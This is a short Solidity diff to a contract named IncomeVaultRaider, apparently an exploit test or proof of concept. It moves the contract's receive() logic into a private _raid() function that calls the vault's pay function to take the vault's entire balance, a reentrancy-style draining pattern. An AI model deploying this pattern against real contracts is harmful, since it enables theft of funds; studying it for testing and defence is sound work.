@@ -324,6 +324,10 @@ contract IncomeVaultRaider {
     }
 
     receive() external payable {
+        _raid();
+    }
+
+    function _raid() private {
         if (vaultError.length != 0 || claimError.length != 0) return;
         try vault.pay(address(0), address(this), address(vault).balance) {
             successes++;
